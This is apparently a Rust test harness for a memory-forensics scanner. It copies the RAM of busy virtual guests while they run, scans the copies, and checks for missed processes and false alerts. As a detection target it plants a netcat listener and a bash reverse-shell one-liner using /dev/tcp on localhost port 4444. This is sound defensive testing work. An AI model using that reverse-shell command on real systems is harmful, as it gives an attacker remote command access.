//! `cargo xtask copies`: copies of a busy guest's memory, made while it runs, as LiME and AVML make
//! them. Each must be read, with every process that lived through the whole copy, and without a
//! false alert.

use std::fmt;
use std::fs::File;
use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::{Command, Output};
use std::thread::sleep;
use std::time::{Duration, Instant};

use clap::Args;
use panoptes_bounded as bounded;
use panoptes_rig::compare::{KindReport, Truth, compare};
use panoptes_rig::dump::{self, Packing, Ram};
use panoptes_rig::{Flavor, Guest, GuestSpec, Kernel, death, setup};
use serde_json::Value;

use crate::{folders, program, tamper};

/// Copies the memory of busy guests while they run, and scans the copies
///
/// The guests fork 50 processes a second, and change files, threads and connections all the time.
/// No copy may be refused, and 99 % of the processes that lived through the copies must be printed,
/// each with its own values. No alert may be false. What is planted (--hide, --shell) must be shown
/// by 95 % of the copies.
#[derive(Args, Debug)]
pub(crate) struct Options {
    /// Kernels of the guests
    #[arg(value_name = "KERNEL", value_parser = Flavor::from_name)]
    #[arg(default_values = ["6.1", "6.12", "7", "6.12-arm64"])]
    kernels: Vec<Flavor>,
    /// Number of copies of each kernel
    #[arg(long, value_name = "N", default_value_t = 15)]
    copies: usize,
    /// How many seconds the copies take, in turn
    #[arg(long, value_name = "LIST", value_delimiter = ',', default_values_t = [1, 10, 30, 60])]
    seconds: Vec<u64>,
    /// Hide a process from these views before the copies, as `task-list` or `task-list,idr`
    #[arg(long, value_name = "VIEWS", value_delimiter = ',')]
    hide: Vec<String>,
    /// Let a shell take commands from a connection, which the copies must show, too
    #[arg(long)]
    shell: bool,
}

/// Bytes that are copied at a time.
const CHUNK: usize = 1 << 20;
/// Memory of a guest in MiB.
const MEMORY_MIB: u32 = 256;
/// A reverse shell, and the peer that it takes commands from.
const SHELL: [&str; 2] = [
    "run (sleep 100000 | busybox nc -l -p 4444) >/dev/null 2>&1 &",
    "run bash -c 'sleep 1; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' </dev/null >/dev/null 2>&1 &",
];
/// What lives longer stays.
const LIFE: Duration = Duration::from_secs(5);
/// Processes that begin each second, and how long each lives at most.
const STORM: &str = "storm rate=50 seconds=100000 lifetime_ms=200";
const CHURN: &str = "churn seconds=100000";
/// The tree of numbers gets a new root at 4096, as a machine does once. A copy that is made
/// meanwhile may lack the whole tree, so it cannot show that a number is missing.
const LATER_NUMBERS: &str = "run echo 5000 >/proc/sys/kernel/ns_last_pid";

/// What the copies have shown.
#[derive(Clone, Copy, Debug, Default)]
struct Sum {
    copies: usize,
    refused: usize,
    /// Processes that lived through a whole copy.
    lived: usize,
    missing: usize,
    /// Processes with a wrong value.
    wrong: usize,
    false_alerts: usize,
    /// Copies that show the process that was hidden.
    detected: usize,
    /// Copies that show the shell.
    shells: usize,
}

/// What the guests have that copies must show.
#[derive(Clone, Copy, Debug, Default)]
struct Planted {
    /// A hidden process.
    hidden: Option<u64>,
    shell: bool,
}

impl fmt::Display for Sum {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { copies, refused, lived, missing, wrong, false_alerts, .. } = self;
        let Self { detected, shells, .. } = self;
        write!(
            out,
            "{copies} copies: {refused} refused; of {lived} processes that lived through a copy, \
             {missing} missing, {wrong} with a wrong value; {false_alerts} false alerts; \
             {detected} copies with the hidden process, {shells} with the shell"
        )
    }
}

impl Sum {
    fn is_good(&self, planted: Planted) -> bool {
        let is_enough = |shown: usize| shown * 100 >= self.copies * 95;
        self.copies > 0
            && self.lived > 0
            && self.refused + self.wrong + self.false_alerts == 0
            && self.missing * 100 <= self.lived
            && (planted.hidden.is_none() || is_enough(self.detected))
            && (!planted.shell || is_enough(self.shells))
    }

    /// Whether a copy has added nothing that must not be.
    fn is_as_good_as(&self, before: &Self, planted: Planted) -> bool {
        let faults = |sum: &Self| sum.refused + sum.missing + sum.wrong + sum.false_alerts;
        faults(self) == faults(before)
            && (planted.hidden.is_none() || self.detected > before.detected)
            && (!planted.shell || self.shells > before.shells)
    }
}

pub(crate) fn run(options: &Options) -> Result<(), String> {
    if !options.hide.is_empty()
        && let Some(again) = tamper::AGAIN
    {
        return again();
    }
    setup::ensure()?;
    let program = program::obtain()?;
    let mut sum = Sum::default();
    for flavor in &options.kernels {
        let kernel = Kernel::obtain(*flavor)?;
        death::survive(|| copy_guest(*flavor, &kernel, &program, options, &mut sum))?;
    }
    println!("{sum}");
    // The number of the hidden process is another one in each guest.
    let hidden = (!options.hide.is_empty()).then_some(0);
    if sum.is_good(Planted { hidden, shell: options.shell }) {
        return Ok(());
    }
    Err("not everything is as it must be; see above".into())
}

/// Copies the memory of one busy guest again and again.
fn copy_guest(
    flavor: Flavor,
    kernel: &Kernel,
    program: &Path,
    options: &Options,
    sum: &mut Sum,
) -> Result<(), String> {
    println!("== Linux {}", kernel.release());
    let mut spec = GuestSpec::new(kernel.clone());
    spec.memory_mib = MEMORY_MIB.into();
    let mut guest = Guest::boot(&spec)?;
    if !options.hide.is_empty() {
        guest.agent(LATER_NUMBERS)?;
    }
    for command in ["zoo", STORM, CHURN] {
        guest.agent(command)?;
    }
    if options.shell {
        for command in SHELL {
            guest.agent(command)?;
        }
        sleep(LIFE);
    }
    let hidden = if options.hide.is_empty() { None } else { Some(hide(&mut guest, options)?) };
    let planted = Planted { hidden, shell: options.shell };
    let folder = folders::numbered("copies")?;
    let (torn, packed) = (folder.join("torn.raw"), folder.join("packed"));
    for number in 0..options.copies {
        let seconds = options.seconds[number % options.seconds.len().max(1)];
        let before = Truth::of(&mut guest, "processes")?;
        copy(guest.ram_path(), &torn, Duration::from_secs(seconds))?;
        let after = Truth::of(&mut guest, "processes")?;
        let memory = Ram { file: &torn, architecture: flavor.architecture };
        let format = pack(memory, &packed, number)?;
        println!("copy {number}, {seconds} s, {format}:");
        let sum_before = *sum;
        sum.copies += 1;
        judge(program, &packed, (&before, &after), planted, sum)?;
        if !sum.is_as_good_as(&sum_before, planted) {
            let copy = folder.join(format!("copy-{number}"));
            std::fs::rename(&packed, &copy)
                .map_err(|error| format!("{}: {error}", copy.display()))?;
            println!("  see {}", copy.display());
        }
    }
    for path in [&torn, &packed] {
        let _ = std::fs::remove_file(path);
    }
    // A folder with copies to look at stays.
    let _ = std::fs::remove_dir(&folder);
    Ok(())
}

/// Scans a copy, and compares it with the guest before and after.
fn judge(
    program: &Path,
    packed: &Path,
    (before, after): (&Truth, &Truth),
    planted: Planted,
    sum: &mut Sum,
) -> Result<(), String> {
    let scanned = scan(program, packed, &["--only", "processes"])?;
    let message = String::from_utf8_lossy(&scanned.stderr).trim().replace('\n', " | ");
    if !scanned.status.success() {
        sum.refused += 1;
        println!("  refused: {message}");
        return Ok(());
    }
    let lines: Vec<&str> = str::from_utf8(&scanned.stdout).unwrap_or_default().lines().collect();
    let report = compare(before, after, &lines)?;
    let KindReport { truth, missing, .. } = report.kind("process");
    // The scan states the number of those.
    let has_unread = message.contains("not in memory");
    let differences = report.differences.iter();
    let wrong: Vec<&String> =
        differences.filter(|text| is_wrong(text) && !(has_unread && is_unread(text))).collect();
    println!("  {truth} processes, {missing} missing, {} wrong; {message}", wrong.len());
    for difference in &wrong {
        println!("  {difference}");
    }
    sum.lived += truth;
    sum.missing += missing;
    sum.wrong += wrong.len();
    judge_alerts(&scan(program, packed, &["--alerts"])?, planted, sum);
    Ok(())
}

/// Whether a difference is a wrong value. A process that began and ended during the copy is in
/// neither truth, and the state of a task changes all the time.
fn is_wrong(difference: &str) -> bool {
    let is_other =
        ["not in the guest ", "missing "].iter().any(|word| difference.starts_with(word));
    !is_other && !difference.contains(": process_state is ")
}

/// Whether a difference is a command line that was left out, since its page was another process's
/// when it was copied.
fn is_unread(difference: &str) -> bool {
    difference.contains(": process_command_line_argument") && difference.contains(" is missing")
}

/// Hides a process of the guest; returns its id.
fn hide(guest: &mut Guest, options: &Options) -> Result<u64, String> {
    let act = tamper::ACT.ok_or("this build cannot change a guest")?;
    // Some processes live for a moment.
    let earlier = users(&Truth::of(guest, "processes")?);
    sleep(LIFE);
    let mut later = users(&Truth::of(guest, "processes")?);
    later.retain(|pid| earlier.contains(pid));
    let pid = later.into_iter().max().ok_or("no process")?;
    act(guest, &format!("hide {pid} {}", options.hide.join(" ")))?;
    println!("process {pid} is hidden from: {}", options.hide.join(", "));
    Ok(pid)
}

/// Numbers of the processes that a user has started.
fn users(truth: &Truth) -> Vec<u64> {
    // A kernel thread has no command line.
    let is_of_user = |one: &&Value| {
        let name = &one["process_name"];
        let command = one["process_command_line_arguments"].as_str().unwrap_or_default();
        !command.is_empty() && name != "storm" && name != "churn"
    };
    let processes = truth.of_kind("process").filter(is_of_user);
    processes.filter_map(|one| one["process_id"].as_u64()).collect()
}

/// Copies memory in ascending order, in this time.
fn copy(from: &Path, to: &Path, time: Duration) -> Result<(), String> {
    let wrong = |error: std::io::Error| format!("cannot copy {}: {error}", from.display());
    let mut memory = File::open(from).map_err(wrong)?;
    let bytes = memory.metadata().map_err(wrong)?.len();
    let mut copy = File::create(to).map_err(wrong)?;
    let begin = Instant::now();
    let (mut chunk, mut done) = (vec![0; CHUNK], 0);
    while done < bytes {
        let length = memory.read(&mut chunk).map_err(wrong)?;
        if length == 0 {
            break;
        }
        copy.write_all(&chunk[..length]).map_err(wrong)?;
        done += length as u64;
        let due = time.mul_f64(done as f64 / bytes as f64);
        sleep(due.saturating_sub(begin.elapsed()));
    }
    Ok(())
}

/// Writes a copy in one of the formats, in turn; returns its name.
fn pack(torn: Ram<'_>, packed: &Path, number: usize) -> Result<&'static str, String> {
    let format = ["LiME", "AVML", "ELF", "kdump", "raw"][number % 5];
    match format {
        "LiME" => dump::lime(torn, packed, 1)?,
        "AVML" => dump::lime(torn, packed, 2)?,
        "ELF" => dump::elf(torn, packed)?,
        "kdump" => dump::kdump(torn, packed, Packing::Snappy)?,
        _ => _ = std::fs::copy(torn.file, packed).map_err(|error| error.to_string())?,
    }
    Ok(format)
}

fn scan(program: &Path, path: &Path, arguments: &[&str]) -> Result<Output, String> {
    let mut command = Command::new(program);
    command.arg("scan").arg(path).args(arguments);
    bounded::output_within(&mut command, bounded::LONG).map_err(|error| error.to_string())
}

/// Whether a reverse shell is the one of [`SHELL`], by its port.
fn is_planted_shell(data: &Value) -> bool {
    data["reverse_shell_details"].to_string().contains(":4444")
}

/// Counts alerts about anything but what was planted. A copy whose alerts cannot be printed is
/// refused.
fn judge_alerts(output: &Output, planted: Planted, sum: &mut Sum) {
    if !output.status.success() {
        sum.refused += 1;
        let message = String::from_utf8_lossy(&output.stderr).trim().replace('\n', " | ");
        println!("  alerts are refused: {message}");
        return;
    }
    let text = String::from_utf8_lossy(&output.stdout);
    let (mut has_hidden, mut has_shell) = (false, false);
    for line in text.lines() {
        let record: Value = serde_json::from_str(line).unwrap_or_default();
        let data = &record["activity_data"];
        let process = data["process_details"]["process_id"].as_u64();
        match data["name"].as_str() {
            Some("process_hidden") if planted.hidden.is_some() && process == planted.hidden => {
                has_hidden = true;
            }
            Some("reverse_shell_detected") if planted.shell && is_planted_shell(data) => {
                has_shell = true;
            }
            _ => {
                sum.false_alerts += 1;
                println!("  false alert: {}: {}", data["name"], record["detection"]["reason"]);
            }
        }
    }
    sum.detected += usize::from(has_hidden);
    sum.shells += usize::from(has_shell);
    if planted.hidden.is_some() && !has_hidden {
        println!("  the hidden process is not shown");
    }
    if planted.shell && !has_shell {
        println!("  the shell is not shown");
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::process::ExitStatusExt as _;
    use std::process::ExitStatus;

    use super::*;

    /// What a scan printed and how it ended.
    fn output(status: i32, stdout: &str) -> Output {
        let status = ExitStatus::from_raw(status << 8);
        Output { status, stdout: stdout.as_bytes().to_vec(), stderr: Vec::new() }
    }

    #[test]
    fn a_copy_without_alerts_is_good_only_if_the_scan_has_succeeded() {
        let good = Sum { copies: 1, lived: 9, ..Sum::default() };
        let (mut sum, none) = (good, Planted::default());
        judge_alerts(&output(0, ""), none, &mut sum);
        assert!(sum.is_good(none), "{sum}");
        judge_alerts(&output(1, ""), none, &mut sum);
        assert!(!sum.is_good(none), "{sum}");
        assert!(!Sum { lived: 0, ..good }.is_good(none));
    }

    #[test]
    fn only_the_hidden_process_is_no_false_alert() {
        let alert = |pid: u32| {
            format!(
                "{{\"activity_data\":{{\"name\":\"process_hidden\",\"process_details\":\
                 {{\"process_id\":{pid}}}}}}}\n"
            )
        };
        let mut sum = Sum { copies: 1, lived: 9, ..Sum::default() };
        let planted = Planted { hidden: Some(7), shell: false };
        judge_alerts(&output(0, &alert(7)), planted, &mut sum);
        assert!((sum.detected, sum.false_alerts) == (1, 0) && sum.is_good(planted), "{sum}");
        judge_alerts(&output(0, &alert(8)), planted, &mut sum);
        assert_eq!((sum.detected, sum.false_alerts), (1, 1));
    }
}
